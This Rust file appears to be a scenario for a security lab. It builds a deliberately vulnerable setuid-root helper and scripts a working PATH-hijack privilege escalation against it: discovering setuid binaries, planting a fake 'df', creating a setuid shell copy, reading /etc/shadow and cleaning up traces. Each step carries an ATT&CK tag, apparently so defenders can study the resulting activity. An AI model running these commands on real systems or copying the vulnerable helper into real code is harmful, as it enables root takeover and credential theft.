//! A helper that runs as root calls a program by its name alone; a user puts another of that name before it.
//!
//! Hard because: the helper is used for its purpose all the time, and there is no connection but an ordinary login.

use crate::Lab;
use crate::life::host_tasks;
use crate::life::remote::{self, Thief, make_key};
use crate::program::{Program, user};
use anyhow::{Result, ensure};

const HELPER: &str = "#include <stdlib.h>\n#include <unistd.h>\nint main(void) { setgid(0); setuid(0); \
                      return system(\"df -P / > /var/log/report\"); }\n";

pub fn run(lab: &mut Lab) -> Result<()> {
    let host = lab.host("shell-2")?;
    let (admin, attacker) = (lab.outsider("admin")?, lab.outsider("attacker")?);
    remote::serve(&host)?;
    host_tasks::start(lab, &host)?;
    host.put("/usr/local/src/report.c", HELPER, 0o644)?;
    host.prepare(&Program::shell(
        "gcc -o /usr/local/bin/report /usr/local/src/report.c && chmod 4755 /usr/local/bin/report",
    ))?;
    remote::work(lab, &admin, &host, "deploy")?;
    make_key(&attacker, "/root/.ssh/key", user::ROOT, &[(&host, "/home/alice", user::ALICE)])?;
    for _ in lab.rounds(4) {
        host.run(
            "session.scope",
            &Program::new(["/bin/bash", "-c", "report; tail -1 /var/log/report"]).user(user::ALICE),
        )?;
        lab.wait(3..6);
    }

    let attack = lab.attack("vulnerable setuid helper")?;
    let thief = Thief { from: &attacker, key: "/root/.ssh/key", account: "alice", to: &host };
    let step = attack.step("helpers are looked for", &["T1078.003", "T1083"]);
    step.remote(&host, &attacker);
    let said = thief.log_in(&format!(
        "{} find /usr/local /opt -perm -4000 2>/dev/null; strings -n 3 /usr/local/bin/report 2>/dev/null | head -5; true",
        step.mark(&host)?
    ))?;
    ensure!(said.contains("/usr/local/bin/report"), "the helper was not found: {said}");
    drop(step);
    lab.wait(3..8);

    let folder = format!("/home/alice/.{}", lab.word(5));
    let step = attack.step("the helper is made to run another program", &["T1574.007", "T1548.001"]);
    step.remote(&host, &attacker);
    step.file(&host, &format!("{folder}/df"));
    let copy = format!("/var/tmp/.{}", lab.word(6));
    step.file(&host, &copy);
    let line = format!(
        "{} mkdir {folder}; printf \"#!/bin/sh\\ncp /bin/dash {copy}; chmod 4755 {copy}; id\\n\" > {folder}/df; chmod 755 {folder}/df; \
         PATH={folder}:$PATH report; ls -l {copy}",
        step.mark(&host)?
    );
    let said = thief.log_in(&line)?;
    ensure!(said.contains("rws"), "the helper ran nothing else: {said}");
    drop(step);
    lab.wait(3..6);

    let step = attack.step("root is used", &["T1548.001", "T1003.008"]);
    step.remote(&host, &attacker);
    let said = thief.log_in(&format!(
        "{} {copy} -p -c \"id; cat /etc/shadow | wc -l; rm -r {folder} {copy}\"",
        step.mark(&host)?
    ))?;
    ensure!(said.contains("euid=0"), "that was not root: {said}");
    drop(step);
    lab.wait(8..14);
    Ok(())
}
